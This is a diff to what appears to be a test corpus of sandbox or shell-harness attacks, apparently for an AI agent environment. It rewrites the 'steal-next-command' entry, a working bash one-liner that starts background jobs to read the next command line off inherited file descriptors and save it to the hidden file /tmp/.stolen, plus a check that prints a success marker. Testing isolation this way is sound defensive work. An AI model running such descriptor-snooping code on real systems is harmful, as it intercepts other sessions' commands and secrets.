@@ -107,9 +107,9 @@ CORPUS: list[Hack] = [
          source=_SANDBOX.format(3)),
     Hack("steal-next-command", "A background job reads the next command line off an inherited "
          "descriptor.", "any",
-         [bash("for fd in /proc/$$/fd/*; do n=${fd##*/}; [ \"$n\" -gt 2 ] && (timeout 5 "
-               "bash -c \"read -r -u $n l && echo \\\"\\$l\\\" > /tmp/.stolen\" &) ; done "
-               ">/dev/null 2>&1; echo armed"),
+         [bash("for n in $(ls /proc/$$/fd); do [ \"$n\" -gt 2 ] && "
+               "( read -r -t 5 -u \"$n\" l && echo \"$l\" >> /tmp/.stolen ) >/dev/null 2>&1 & "
+               "done; echo armed"),
           bash("true"),
           bash(f"sleep 1; [ -s /tmp/.stolen ] && echo {SUCCESS_MARKER}; cat /tmp/.stolen 2>/dev/null "
                "| head -c 200; echo"),
